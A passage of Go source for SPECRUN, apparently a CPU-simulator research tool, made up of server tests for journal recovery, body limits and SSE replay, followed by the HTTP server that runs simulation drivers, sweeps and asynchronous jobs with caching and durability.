			}
			leased[lj.id] = true
		}
		if leased[doneID] || leased[failedID] || leased[cancelledID] {
			t.Fatalf("round %d: re-leased a terminal job: %v", round, leased)
		}
		if !leased[pendingID] || !leased[crashedID] {
			t.Fatalf("round %d: pending work not re-leased: %v", round, leased)
		}

		if round == 0 {
			// Compact and loop: the rewritten journal must restore identically.
			b2 := newJobStore()
			b2.policy = a.policy
			b2.restore(recs2, nil)
			if err := jnl2.rewrite(b2.snapshotRecords()); err != nil {
				t.Fatal(err)
			}
		}
		jnl2.close()
	}
}

// TestJournalTornTail: a kill -9 mid-append leaves a torn final line; the
// journal must replay everything before it and keep working.
func TestJournalTornTail(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "jobs.jsonl")
	logger := slog.New(slog.DiscardHandler)

	jnl, _, err := openJournal(path, logger)
	if err != nil {
		t.Fatal(err)
	}
	s := newJobStore()
	s.journal = jnl
	id := s.create("fig9", JobRequest{})
	jnl.close()

	// Simulate the torn append.
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.WriteString(`{"t":"done","job":"` + id + `","resu`); err != nil {
		t.Fatal(err)
	}
	f.Close()

	jnl2, recs, err := openJournal(path, logger)
	if err != nil {
		t.Fatalf("torn journal failed to open: %v", err)
	}
	defer jnl2.close()
	if len(recs) != 1 || recs[0].T != recSubmit || recs[0].Job != id {
		t.Fatalf("replayed %+v, want the one intact submit", recs)
	}
	b := newJobStore()
	b.restore(recs, nil)
	if v, _ := b.get(id); v.Status != JobPending {
		t.Fatalf("restored job: %+v (the torn done record must not apply)", v)
	}
}

// TestBodyLimit413 pins the request-body cap: an over-limit POST is
// rejected with 413, not 400, and the server keeps serving.
func TestBodyLimit413(t *testing.T) {
	_, ts := newTestServer(t)
	huge := `{"driver": "fig9", "config": {"pad": "` + strings.Repeat("x", maxBodyBytes+1024) + `"}}`
	for _, ep := range []string{"/v1/jobs", "/v1/run/fig9", "/v1/sweep", "/v1/run/fuzz", "/v1/run/program"} {
		code, _, body := do(t, "POST", ts.URL+ep, huge)
		if code != http.StatusRequestEntityTooLarge {
			t.Fatalf("%s with %d-byte body: %d %.120s", ep, len(huge), code, body)
		}
	}
	// A normal request still works afterwards.
	if code, _, body := do(t, "POST", ts.URL+"/v1/run/fig9", "{}"); code != http.StatusOK {
		t.Fatalf("run after oversized bodies: %d %s", code, body)
	}
}

// TestSSEEventIDsAndReplay pins the SSE resume contract: events carry
// monotonic ids, a reconnect with Last-Event-ID below the terminal id
// replays exactly the terminal event, and a reconnect at the terminal id
// replays nothing.
func TestSSEEventIDsAndReplay(t *testing.T) {
	_, ts := newTestServer(t)

	jobBody, _ := json.Marshal(map[string]any{"program": map[string]any{"asm": "halt"}})
	code, _, body := do(t, "POST", ts.URL+"/v1/jobs", string(jobBody))
	if code != http.StatusAccepted {
		t.Fatalf("submit: %d %s", code, body)
	}
	var view JobView
	if err := json.Unmarshal(body, &view); err != nil {
		t.Fatal(err)
	}
	pollJob(t, ts.URL, view.ID)

	// First subscription to the finished job: exactly one terminal event,
	// carrying an id.
	ids, names := readSSEWithIDs(t, ts.URL+"/v1/jobs/"+view.ID+"/events", "")
	if len(names) != 1 || names[0] != JobDone {
		t.Fatalf("events = %v, want single %q", names, JobDone)
	}
	if len(ids) != 1 || ids[0] == "" {
		t.Fatalf("terminal event ids = %v, want one nonempty id", ids)
	}
	term := ids[0]

	// Reconnect having missed the terminal event: it replays, same id.
	ids2, names2 := readSSEWithIDs(t, ts.URL+"/v1/jobs/"+view.ID+"/events", "0")
	if len(names2) != 1 || names2[0] != JobDone || ids2[0] != term {
		t.Fatalf("replay = %v/%v, want %q with id %s", names2, ids2, JobDone, term)
	}
	// Reconnect having already seen it: empty stream, clean close.
	ids3, names3 := readSSEWithIDs(t, ts.URL+"/v1/jobs/"+view.ID+"/events", term)
	if len(names3) != 0 || len(ids3) != 0 {
		t.Fatalf("caught-up reconnect replayed %v/%v, want nothing", names3, ids3)
	}
}

// readSSEWithIDs consumes one SSE stream, returning parallel id and event
// name slices.
func readSSEWithIDs(t *testing.T, url, lastEventID string) (ids, names []string) {
	t.Helper()
	req, err := http.NewRequest("GET", url, nil)
	if err != nil {
		t.Fatal(err)
	}
	if lastEventID != "" {
		req.Header.Set("Last-Event-ID", lastEventID)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("events: %d", resp.StatusCode)
	}
	sc := bufio.NewScanner(resp.Body)
	var curID string
	for sc.Scan() {
		line := sc.Text()
		if after, ok := strings.CutPrefix(line, "id: "); ok {
			curID = after
		}
		if after, ok := strings.CutPrefix(line, "event: "); ok {
			ids = append(ids, curID)
			names = append(names, after)
		}
	}
	return ids, names
}

// TestSSEWatcherCleanup: a subscriber that disconnects mid-job is detached
// from the store — no watcher channels leak while the job keeps running.
func TestSSEWatcherCleanup(t *testing.T) {
	s, ts := newTestServer(t)

	// A long fuzz campaign keeps the job running while clients come and go.
	code, _, body := do(t, "POST", ts.URL+"/v1/jobs", `{"fuzz": {"seeds": 4000, "len": 64}}`)
	if code != http.StatusAccepted {
		t.Fatalf("submit: %d %s", code, body)
	}
	var view JobView
	if err := json.Unmarshal(body, &view); err != nil {
		t.Fatal(err)
	}

	watchers := func() int {
		s.jobs.mu.Lock()
		defer s.jobs.mu.Unlock()
		j, ok := s.jobs.jobs[view.ID]
		if !ok {
			return -1
		}
		return len(j.watchers)
	}

	for i := 0; i < 4; i++ {
		ctx, cancel := context.WithCancel(context.Background())
		req, err := http.NewRequestWithContext(ctx, "GET", ts.URL+"/v1/jobs/"+view.ID+"/events", nil)
		if err != nil {
			t.Fatal(err)
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		waitFor(t, "watcher attached", func() bool { return watchers() >= 1 || terminalJobStatus(mustView(t, ts.URL, view.ID).Status) })
		cancel()
		resp.Body.Close()
		waitFor(t, fmt.Sprintf("watcher %d detached", i), func() bool { return watchers() <= 0 })
	}
	if n := s.sseActive.Load(); n != 0 {
		t.Fatalf("sse_streams_active = %d after disconnects, want 0", n)
	}
	do(t, "DELETE", ts.URL+"/v1/jobs/"+view.ID, "")
}

func mustView(t *testing.T, base, id string) JobView {
	t.Helper()
	_, _, body := do(t, "GET", base+"/v1/jobs/"+id, "")
	var v JobView
	if err := json.Unmarshal(body, &v); err != nil {
		t.Fatal(err)
	}
	return v
}
