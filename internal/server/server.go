// Package server exposes the SPECRUN experiment drivers as a long-running
// HTTP/JSON service (`specrun serve`): one POST /v1/run/{driver} endpoint
// per paper artifact, user-defined grids at POST /v1/sweep, asynchronous
// jobs with progress and cancellation at /v1/jobs, and introspection at
// GET /v1/config, /v1/stats and /healthz.
//
// Serving leans on two properties of the simulator: determinism and
// independence.  Every simulation is fully deterministic, so encoded
// results are memoized in a content-addressed LRU cache
// (specrun/internal/rescache) keyed by a canonical hash of
// (driver, config, params); concurrent identical requests collapse onto a
// single simulation (singleflight).  Simulations are independent, so all
// execution flows through the sweep engine under one server-wide worker
// budget (sweep.Gate) — N concurrent requests share a single worker pool
// instead of oversubscribing the host.
package server

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/pprof"
	"path/filepath"
	"runtime"
	"sync/atomic"
	"time"

	"specrun/internal/core"
	"specrun/internal/cpu"
	"specrun/internal/difftest"
	"specrun/internal/faultinject"
	"specrun/internal/rescache"
	"specrun/internal/sweep"
)

// Options configures a Server.
type Options struct {
	// Workers is the server-wide simulation budget: the maximum number of
	// simulations in flight at once, across all requests and jobs
	// (0 = GOMAXPROCS).
	Workers int
	// CacheEntries bounds the result cache (0 = 512 entries).
	CacheEntries int
	// Logger receives structured request and job-lifecycle logs
	// (nil = discard).
	Logger *slog.Logger
	// EnablePprof mounts net/http/pprof under /debug/pprof/.  Off by
	// default: the profiler exposes stack traces and should be opted into.
	EnablePprof bool

	// DataDir enables the durable tier: a disk-backed result cache under
	// <dir>/cache and an append-only job journal at <dir>/jobs.jsonl.
	// Jobs submitted before a crash resume on the next boot; results
	// survive restarts.  Empty = memory only.  If the directory is
	// unusable the server degrades to memory-only with a logged warning —
	// it never refuses to start.
	DataDir string
	// DiskCacheBytes bounds the disk cache (0 = 256 MiB).
	DiskCacheBytes int64
	// LeaseTTL is how long a job attempt may run without reporting
	// progress before the watchdog reclaims it (0 = 60s).
	LeaseTTL time.Duration
	// JobTimeout bounds a single job attempt end to end (0 = unbounded).
	// A timed-out attempt is retried under the Retry policy.
	JobTimeout time.Duration
	// Retry governs re-execution of failed job attempts (zero values
	// select the defaults documented on RetryPolicy).
	Retry RetryPolicy
	// SchedInterval is the scheduler tick driving retries, resumes and
	// lease reclaim (0 = 500ms).  Tests shrink it.
	SchedInterval time.Duration
}

// Server is the simulation service.  Create with New, mount Handler on an
// http.Server, and Close on shutdown to cancel outstanding jobs.
type Server struct {
	opts    Options
	gate    *sweep.Gate
	cache   *rescache.Cache
	jobs    *jobStore
	logger  *slog.Logger
	metrics *serverMetrics

	baseCtx context.Context // parent of every computation; Close cancels it
	stop    context.CancelFunc
	start   time.Time

	requests    atomic.Uint64 // HTTP requests served
	simulations atomic.Uint64 // driver/sweep executions actually run (cache misses)
	sseActive   atomic.Int64  // open SSE event streams (GET /v1/jobs/{id}/events)
}

// New builds a Server.  With Options.DataDir set, the durable tier attaches
// here: the disk cache is scanned, the job journal replayed and compacted,
// and interrupted jobs re-queued; the scheduler goroutine then resumes
// them.  Durability failures degrade to memory-only — New never fails.
func New(opts Options) *Server {
	ctx, cancel := context.WithCancel(context.Background())
	logger := opts.Logger
	if logger == nil {
		logger = slog.New(slog.DiscardHandler)
	}
	s := &Server{
		opts:    opts,
		gate:    sweep.NewGate(opts.Workers),
		cache:   rescache.New(opts.CacheEntries),
		jobs:    newJobStore(),
		logger:  logger,
		baseCtx: ctx,
		stop:    cancel,
		start:   time.Now(),
	}
	s.metrics = newServerMetrics(s)
	s.jobs.logger = logger
	s.jobs.onTerminal = func(kind, status string) {
		s.metrics.jobsTotal.With(kind, status).Inc()
	}
	s.jobs.policy = opts.Retry.withDefaults()
	if opts.LeaseTTL > 0 {
		s.jobs.leaseTTL = opts.LeaseTTL
	}
	if opts.DataDir != "" {
		// AttachDisk logs its own warning on failure and the cache keeps
		// serving from memory; the Degraded flag surfaces in /v1/stats.
		_ = s.cache.AttachDisk(rescache.DiskOptions{
			Dir:      filepath.Join(opts.DataDir, "cache"),
			MaxBytes: opts.DiskCacheBytes,
			Logger:   logger,
		})
		jnl, recs, err := openJournal(filepath.Join(opts.DataDir, "jobs.jsonl"), logger)
		if err != nil {
			logger.Warn("job journal unavailable; jobs are not durable", "error", err)
		} else {
			s.jobs.restore(recs, s.cache.Get)
			if err := jnl.rewrite(s.jobs.snapshotRecords()); err != nil {
				logger.Warn("journal compaction failed; appending to existing journal", "error", err)
			}
			s.jobs.journal = jnl
		}
	}
	go s.schedule()
	return s
}

// Close cancels the server's base context — running jobs and in-flight
// computations observe cancellation and wind down — and closes the journal.
// With a durable store, leased jobs are deliberately NOT journaled as
// cancelled: their last record stays the lease, so the next boot reclaims
// and re-runs them.
func (s *Server) Close() {
	s.stop()
	s.jobs.closeJournal()
}

// Drain blocks until no job is pending or running, or ctx expires (whose
// error it returns).  With a durable store, a bounded drain is safe: jobs
// still queued at the deadline are journaled and resume on the next boot.
func (s *Server) Drain(ctx context.Context) error {
	t := time.NewTicker(25 * time.Millisecond)
	defer t.Stop()
	for {
		if st := s.jobs.stats(); st.Running == 0 && st.Pending == 0 {
			return nil
		}
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-t.C:
		}
	}
}

// schedule is the job scheduler loop: an immediate pump resumes journaled
// work at boot, then the ticker drives lease reclaim and delayed retries.
// Submissions pump synchronously, so the tick is a backstop, not the
// dispatch latency.
func (s *Server) schedule() {
	interval := s.opts.SchedInterval
	if interval <= 0 {
		interval = 500 * time.Millisecond
	}
	t := time.NewTicker(interval)
	defer t.Stop()
	s.pump(time.Now())
	for {
		select {
		case <-s.baseCtx.Done():
			return
		case now := <-t.C:
			s.pump(now)
		}
	}
}

// pump advances the scheduler once: reclaim expired leases, then lease
// every due pending job onto its own runner goroutine (the gate, not the
// lease count, bounds actual simulation concurrency).
func (s *Server) pump(now time.Time) {
	for _, cancel := range s.jobs.reclaimExpired(now) {
		cancel()
	}
	for {
		lj, ok := s.jobs.leaseNext(now, func() (context.Context, context.CancelFunc) {
			return context.WithCancel(s.baseCtx)
		})
		if !ok {
			return
		}
		go s.runAttempt(lj)
	}
}

// runAttempt executes one leased attempt under the per-job timeout.
func (s *Server) runAttempt(lj leasedJob) {
	defer lj.cancel()
	ctx := lj.ctx
	if s.opts.JobTimeout > 0 {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, s.opts.JobTimeout)
		defer cancel()
	}
	// An injected stall blocks here — before any progress heartbeat can
	// renew the lease — so the watchdog observes the expiry and reclaims
	// the job, exactly the hung-worker failure mode it exists for.
	faultinject.Stall(ctx, faultinject.JobStall)
	s.executeJob(ctx, lj)
}

// executeJob dispatches a normalized request (exactly one arm set — see
// normalizeJob) to its runner.  Requests replayed from the journal take
// this same path, so resume is ordinary execution.
func (s *Server) executeJob(ctx context.Context, lj leasedJob) {
	switch {
	case lj.req.Program != nil:
		rp, err := lj.req.Program.resolve()
		if err != nil {
			s.jobs.finish(lj.id, lj.attempt, "", nil, err.Error(), false)
			return
		}
		s.runProgramJob(ctx, lj.id, lj.attempt, rp)
	case lj.req.Fuzz != nil:
		s.runFuzzJob(ctx, lj.id, lj.attempt, *lj.req.Fuzz)
	case lj.req.Sweep != nil:
		s.runSweepJob(ctx, lj.id, lj.attempt, *lj.req.Sweep)
	default:
		d, ok := DriverByName(lj.req.Driver)
		if !ok {
			s.jobs.finish(lj.id, lj.attempt, "", nil, fmt.Sprintf("unknown driver %q", lj.req.Driver), false)
			return
		}
		s.runDriverJob(ctx, lj.id, lj.attempt, d, lj.req.RunRequest)
	}
}

// Handler returns the routed HTTP handler.  Every route is mounted through
// s.handle, which layers per-route metrics and request logging (Go's
// ServeMux hides the matched pattern from outer middleware, so
// instrumentation attaches at registration).
func (s *Server) Handler() http.Handler {
	mux := http.NewServeMux()
	s.handle(mux, "GET /healthz", s.handleHealthz)
	s.handle(mux, "GET /metrics", s.handleMetrics)
	s.handle(mux, "GET /v1/config", s.handleConfig)
	s.handle(mux, "GET /v1/stats", s.handleStats)
	s.handle(mux, "POST /v1/run/{driver}", s.handleRun)
	s.handle(mux, "POST /v1/run/fuzz", s.handleFuzz)          // literal pattern wins over {driver}
	s.handle(mux, "POST /v1/run/program", s.handleRunProgram) // ditto
	s.handle(mux, "POST /v1/sweep", s.handleSweep)
	s.handle(mux, "POST /v1/jobs", s.handleJobSubmit)
	s.handle(mux, "GET /v1/jobs", s.handleJobList)
	s.handle(mux, "GET /v1/jobs/{id}", s.handleJobGet)
	s.handle(mux, "GET /v1/jobs/{id}/result", s.handleJobResult)
	s.handle(mux, "GET /v1/jobs/{id}/events", s.handleJobEvents)
	s.handle(mux, "DELETE /v1/jobs/{id}", s.handleJobCancel)
	if s.opts.EnablePprof {
		mux.HandleFunc("GET /debug/pprof/", pprof.Index)
		mux.HandleFunc("GET /debug/pprof/cmdline", pprof.Cmdline)
		mux.HandleFunc("GET /debug/pprof/profile", pprof.Profile)
		mux.HandleFunc("GET /debug/pprof/symbol", pprof.Symbol)
		mux.HandleFunc("GET /debug/pprof/trace", pprof.Trace)
	}
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.requests.Add(1)
		mux.ServeHTTP(w, r)
	})
}

// simCtx is the context every computation runs under: rooted at the server
// (so a dropped client never aborts a result other waiters share) and
// carrying the worker budget.
func (s *Server) simCtx() context.Context {
	return sweep.WithGate(s.baseCtx, s.gate)
}

// --- run endpoints ---

func (s *Server) handleRun(w http.ResponseWriter, r *http.Request) {
	d, ok := DriverByName(r.PathValue("driver"))
	if !ok {
		writeError(w, http.StatusNotFound, "unknown driver %q", r.PathValue("driver"))
		return
	}
	var req RunRequest
	if err := decodeBody(w, r, &req); err != nil {
		writeBodyError(w, err)
		return
	}
	cfg, p, err := req.resolve()
	if err != nil {
		writeError(w, http.StatusBadRequest, "bad request body: %v", err)
		return
	}
	key, err := d.cacheKey(cfg, p)
	if err != nil {
		writeError(w, http.StatusInternalServerError, "cache key: %v", err)
		return
	}
	body, hit, err := s.cache.Do(r.Context(), key, func() ([]byte, error) {
		s.simulations.Add(1)
		res, err := d.run(s.simCtx(), cfg, p, req.Workers)
		if err != nil {
			return nil, err
		}
		return Encode(res)
	})
	if err != nil {
		writeError(w, http.StatusInternalServerError, "%s: %v", d.Name, err)
		return
	}
	writeBody(w, body, hit)
}

// --- sweep endpoint ---

func (s *Server) handleSweep(w http.ResponseWriter, r *http.Request) {
	var spec SweepSpec
	if err := decodeBody(w, r, &spec); err != nil {
		writeBodyError(w, err)
		return
	}
	// Validate up front: a bad grid is a 400, and it must not count as (or
	// coalesce with) a simulation.
	if _, err := spec.withDefaults().axes(); err != nil {
		writeError(w, http.StatusBadRequest, "sweep: %v", err)
		return
	}
	// Workers tunes execution, not the result, so it never reaches the key;
	// withDefaults makes explicit defaults and omitted fields hash alike.
	keySpec := spec.withDefaults()
	keySpec.Workers = 0
	key, err := core.HashKey("sweep", keySpec)
	if err != nil {
		writeError(w, http.StatusInternalServerError, "cache key: %v", err)
		return
	}
	body, hit, err := s.cache.Do(r.Context(), key, func() ([]byte, error) {
		s.simulations.Add(1)
		res, _, runErr := RunSweep(s.simCtx(), spec, sweep.Options{})
		if res.Rows == nil {
			return nil, runErr // validation failure
		}
		// A cancelled grid holds rows that never simulated — transient
		// state that must not become the permanent entry for this key.
		// Per-point simulation failures, by contrast, are deterministic
		// and cache with the rest of the rows.
		if errors.Is(runErr, context.Canceled) {
			return nil, runErr
		}
		return Encode(res)
	})
	if err != nil {
		writeError(w, http.StatusBadRequest, "sweep: %v", err)
		return
	}
	writeBody(w, body, hit)
}

// --- async jobs ---

// JobRequest is the body of POST /v1/jobs: a run driver (Driver +
// RunRequest fields), a sweep (Sweep spec), a fuzzing campaign (Fuzz
// spec; driver "fuzz" for the architectural differential oracle, "leaks"
// for the microarchitectural leak oracle) or an interchange-format program
// submission (Program spec), executed asynchronously.
type JobRequest struct {
	Driver  string          `json:"driver,omitempty"` // run driver name, "sweep", "fuzz", "leaks" or "program"
	Sweep   *SweepSpec      `json:"sweep,omitempty"`
	Fuzz    *FuzzRequest    `json:"fuzz,omitempty"`
	Program *ProgramRequest `json:"program,omitempty"`
	RunRequest
}

func (s *Server) handleJobSubmit(w http.ResponseWriter, r *http.Request) {
	var req JobRequest
	if err := decodeBody(w, r, &req); err != nil {
		writeBodyError(w, err)
		return
	}
	view, err := s.startJob(req)
	if err != nil {
		writeError(w, http.StatusBadRequest, "%v", err)
		return
	}
	writeJSON(w, http.StatusAccepted, view)
}

// startJob validates and normalizes the request, registers the job
// (journaled when durable) and pumps the scheduler so the returned view
// reflects the immediately-leased attempt.
func (s *Server) startJob(req JobRequest) (JobView, error) {
	kind, err := s.normalizeJob(&req)
	if err != nil {
		return JobView{}, err
	}
	id := s.jobs.create(kind, req)
	s.pump(time.Now())
	view, _ := s.jobs.get(id)
	return view, nil
}

// normalizeJob validates req and rewrites it into the canonical form the
// journal persists and executeJob dispatches on — exactly one of
// Program / Fuzz / Sweep / Driver populated, aliases and worker defaults
// folded in — returning the job kind.  Validation happens here, before the
// job is accepted, so a bad document 400s instead of surfacing as a failed
// (and pointlessly retried) job.
func (s *Server) normalizeJob(req *JobRequest) (string, error) {
	if req.Program != nil || req.Driver == "program" {
		if req.Driver != "" && req.Driver != "program" {
			return "", fmt.Errorf("job: driver %q conflicts with program spec", req.Driver)
		}
		if req.Sweep != nil || req.Fuzz != nil {
			return "", fmt.Errorf("job: program and sweep/fuzz specs conflict")
		}
		if req.Program == nil {
			return "", fmt.Errorf("job: driver %q requires a program spec", req.Driver)
		}
		rp, err := req.Program.resolve()
		if err != nil {
			s.metrics.programSubs.With(rp.format, "invalid").Inc()
			return "", err
		}
		req.Driver = ""
		return "program", nil
	}
	if req.Fuzz != nil || req.Driver == "fuzz" || req.Driver == "leaks" {
		if req.Driver != "" && req.Driver != "fuzz" && req.Driver != "leaks" {
			return "", fmt.Errorf("job: driver %q conflicts with fuzz spec", req.Driver)
		}
		if req.Sweep != nil {
			return "", fmt.Errorf("job: fuzz and sweep specs conflict")
		}
		fz := FuzzRequest{}
		if req.Fuzz != nil {
			fz = *req.Fuzz
		}
		if fz.Workers == 0 {
			fz.Workers = req.Workers
		}
		// The "leaks" alias flips the spec to the leak oracle ("leak" already
		// names the attack byte-extraction driver); an explicit Fuzz spec with
		// Leaks set and the plain "fuzz" driver is equivalent.
		if req.Driver == "leaks" {
			fz.Leaks = true
		}
		if _, err := fz.resolve(); err != nil {
			return "", err
		}
		req.Fuzz = &fz
		req.Driver = ""
		return "fuzz", nil
	}
	if req.Sweep != nil || req.Driver == "sweep" {
		if req.Driver != "" && req.Driver != "sweep" {
			return "", fmt.Errorf("job: driver %q conflicts with sweep spec", req.Driver)
		}
		if req.Sweep == nil {
			req.Sweep = &SweepSpec{}
		}
		// A top-level workers field applies to the sweep unless the spec
		// sets its own — accepting-but-ignoring it would be a silent trap.
		if req.Sweep.Workers == 0 {
			req.Sweep.Workers = req.Workers
		}
		if _, err := req.Sweep.withDefaults().axes(); err != nil {
			return "", err
		}
		req.Driver = ""
		return "sweep", nil
	}
	d, ok := DriverByName(req.Driver)
	if !ok {
		return "", fmt.Errorf("job: unknown driver %q", req.Driver)
	}
	return d.Name, nil
}

// runDriverJob executes one run driver asynchronously, sharing the result
// cache with the synchronous endpoints: a cached result completes the job
// instantly, a fresh one is stored for them.  It computes outside
// rescache.Do so that cancelling this job never aborts a synchronous
// request coalesced on the same key.
func (s *Server) runDriverJob(ctx context.Context, id string, attempt int, d Driver, req RunRequest) {
	cfg, p, err := req.resolve()
	if err != nil {
		s.jobs.finish(id, attempt, "", nil, err.Error(), false)
		return
	}
	key, err := d.cacheKey(cfg, p)
	if err != nil {
		s.jobs.finish(id, attempt, "", nil, err.Error(), false)
		return
	}
	if body, ok := s.cache.Get(key); ok {
		s.jobs.finish(id, attempt, key, body, "", false)
		return
	}
	s.simulations.Add(1)
	res, err := d.run(sweep.WithGate(ctx, s.gate), cfg, p, req.Workers)
	if err != nil {
		s.jobs.finish(id, attempt, "", nil, err.Error(), errors.Is(err, context.Canceled))
		return
	}
	body, err := Encode(res)
	if err != nil {
		s.jobs.finish(id, attempt, "", nil, err.Error(), false)
		return
	}
	s.cache.Add(key, body)
	s.jobs.finish(id, attempt, key, body, "", false)
}

// runSweepJob executes a sweep asynchronously with live progress, sharing
// the result cache with the synchronous endpoint: a restarted server serves
// the same grid from disk instead of re-simulating it.
func (s *Server) runSweepJob(ctx context.Context, id string, attempt int, spec SweepSpec) {
	keySpec := spec.withDefaults()
	keySpec.Workers = 0
	key, err := core.HashKey("sweep", keySpec)
	if err != nil {
		s.jobs.finish(id, attempt, "", nil, err.Error(), false)
		return
	}
	if body, ok := s.cache.Get(key); ok {
		s.jobs.finish(id, attempt, key, body, "", false)
		return
	}
	s.simulations.Add(1)
	res, _, runErr := RunSweep(sweep.WithGate(ctx, s.gate), spec, sweep.Options{
		OnProgress: func(done, total int) { s.jobs.progress(id, attempt, done, total) },
	})
	cancelled := errors.Is(runErr, context.Canceled)
	if res.Rows == nil {
		msg := ""
		if runErr != nil {
			msg = runErr.Error()
		}
		s.jobs.finish(id, attempt, "", nil, msg, cancelled)
		return
	}
	body, err := Encode(res)
	if err != nil {
		s.jobs.finish(id, attempt, "", nil, err.Error(), false)
		return
	}
	if cancelled {
		// Partial rows attach to the job but never become the permanent
		// cache entry for this key.
		s.jobs.finish(id, attempt, "", body, "", true)
		return
	}
	s.cache.Add(key, body)
	s.jobs.finish(id, attempt, key, body, "", false)
}

func (s *Server) handleJobList(w http.ResponseWriter, r *http.Request) {
	writeJSON(w, http.StatusOK, s.jobs.list())
}

func (s *Server) handleJobGet(w http.ResponseWriter, r *http.Request) {
	view, ok := s.jobs.get(r.PathValue("id"))
	if !ok {
		writeError(w, http.StatusNotFound, "unknown job %q", r.PathValue("id"))
		return
	}
	writeJSON(w, http.StatusOK, view)
}

// handleJobResult serves a finished job's stored bytes verbatim, so an
// async result is byte-identical to the synchronous endpoint's body (the
// result embedded in the job document is re-indented by the outer encoder).
func (s *Server) handleJobResult(w http.ResponseWriter, r *http.Request) {
	view, ok := s.jobs.get(r.PathValue("id"))
	if !ok {
		writeError(w, http.StatusNotFound, "unknown job %q", r.PathValue("id"))
		return
	}
	if len(view.Result) == 0 {
		writeError(w, http.StatusConflict, "job %s is %s with no result", view.ID, view.Status)
		return
	}
	w.Header().Set("Content-Type", "application/json")
	w.Write(view.Result)
}

func (s *Server) handleJobCancel(w http.ResponseWriter, r *http.Request) {
	view, ok := s.jobs.cancelJob(r.PathValue("id"))
	if !ok {
		writeError(w, http.StatusNotFound, "unknown job %q", r.PathValue("id"))
		return
	}
	writeJSON(w, http.StatusOK, view)
}

// --- introspection ---

// DriverInfo documents one run endpoint (GET /v1/config).
type DriverInfo struct {
	Endpoint string `json:"endpoint"`
	Artifact string `json:"artifact"`
}

// ConfigResponse is the body of GET /v1/config.
type ConfigResponse struct {
	Config  core.Config  `json:"config"` // Table 1 defaults (the base every partial request overlays)
	Table1  string       `json:"table1"` // rendered table, as `specrun config` prints it
	Drivers []DriverInfo `json:"drivers"`
}

func (s *Server) handleConfig(w http.ResponseWriter, r *http.Request) {
	cfg := core.DefaultConfig()
	resp := ConfigResponse{Config: cfg, Table1: core.Table1(cfg)}
	for _, d := range drivers {
		resp.Drivers = append(resp.Drivers, DriverInfo{Endpoint: "/v1/run/" + d.Name, Artifact: d.Artifact})
	}
	resp.Drivers = append(resp.Drivers, DriverInfo{
		Endpoint: "/v1/run/fuzz",
		Artifact: "differential fuzzing campaign (ISS-vs-pipeline golden-model oracle)",
	})
	resp.Drivers = append(resp.Drivers, DriverInfo{
		Endpoint: "/v1/run/program",
		Artifact: "interchange-format program run (asm text or canonical .sprog binary)",
	})
	writeJSON(w, http.StatusOK, resp)
}

// MachinePoolStats reports reusable-machine retention: core's per-config
// pool LRU and the differential engine's per-worker machine caches.  Both
// are bounded; the eviction counters tell an operator whether a long-lived
// server is cycling through more configurations than the bounds hold.
type MachinePoolStats struct {
	Configs          int    `json:"configs"`               // configurations with a live core pool
	Capacity         int    `json:"capacity"`              // core pool LRU bound
	Evictions        uint64 `json:"evictions"`             // core config pools dropped
	Hits             uint64 `json:"hits"`                  // jobs that recycled a warm machine
	Misses           uint64 `json:"misses"`                // jobs that built a machine from scratch
	RunnerEvictions  uint64 `json:"runner_evictions"`      // difftest worker-cache machines dropped
	RunnerCapPerSlot int    `json:"runner_cap_per_worker"` // difftest per-worker machine bound
}

// RuntimeStats is the process- and scheduler-health section of
// GET /v1/stats: Go runtime vitals plus the simulation gate's live
// occupancy, so an operator can tell an idle server from a saturated one
// without a metrics stack.
type RuntimeStats struct {
	UptimeSeconds       float64 `json:"uptime_seconds"`
	Goroutines          int     `json:"goroutines"`
	HeapInuseBytes      uint64  `json:"heap_inuse_bytes"`
	GCCount             uint32  `json:"gc_count"`
	GCPauseTotalSeconds float64 `json:"gc_pause_total_seconds"`
	GateInFlight        int     `json:"gate_in_flight"` // worker tokens held
	GateQueued          int     `json:"gate_queued"`    // simulations waiting for a token
}

// StatsResponse is the body of GET /v1/stats.
type StatsResponse struct {
	Version       string           `json:"version"`
	UptimeSeconds float64          `json:"uptime_seconds"`
	Requests      uint64           `json:"requests"`
	Simulations   uint64           `json:"simulations"` // driver/sweep executions actually run
	SimCycles     uint64           `json:"sim_cycles"`  // processor cycles simulated, process-wide
	Workers       int              `json:"workers"`     // server-wide simulation budget
	Cache         rescache.Stats   `json:"cache"`
	Jobs          JobStats         `json:"jobs"`
	MachinePools  MachinePoolStats `json:"machine_pools"`
	Runtime       RuntimeStats     `json:"runtime"`
}

func (s *Server) handleStats(w http.ResponseWriter, r *http.Request) {
	pools := core.MachinePoolStats()
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	writeJSON(w, http.StatusOK, StatsResponse{
		Version:       Version(),
		UptimeSeconds: time.Since(s.start).Seconds(),
		Requests:      s.requests.Load(),
		Simulations:   s.simulations.Load(),
		SimCycles:     cpu.SimCyclesTotal(),
		Workers:       s.gate.Cap(),
		Cache:         s.cache.Stats(),
		Jobs:          s.jobs.stats(),
		MachinePools: MachinePoolStats{
			Configs:          pools.Configs,
			Capacity:         pools.Capacity,
			Evictions:        pools.Evictions,
			Hits:             pools.Hits,
			Misses:           pools.Misses,
			RunnerEvictions:  difftest.RunnerEvictions(),
			RunnerCapPerSlot: difftest.RunnerCacheCap,
		},
		Runtime: RuntimeStats{
			UptimeSeconds:       time.Since(s.start).Seconds(),
			Goroutines:          runtime.NumGoroutine(),
			HeapInuseBytes:      ms.HeapInuse,
			GCCount:             ms.NumGC,
			GCPauseTotalSeconds: float64(ms.PauseTotalNs) / 1e9,
			GateInFlight:        s.gate.InFlight(),
			GateQueued:          s.gate.Queued(),
		},
	})
}

func (s *Server) handleHealthz(w http.ResponseWriter, r *http.Request) {
	writeJSON(w, http.StatusOK, map[string]string{"status": "ok"})
}

// --- helpers ---

// maxBodyBytes bounds request bodies; the largest legitimate document (a
// full Config overlay plus params) is a few KB.
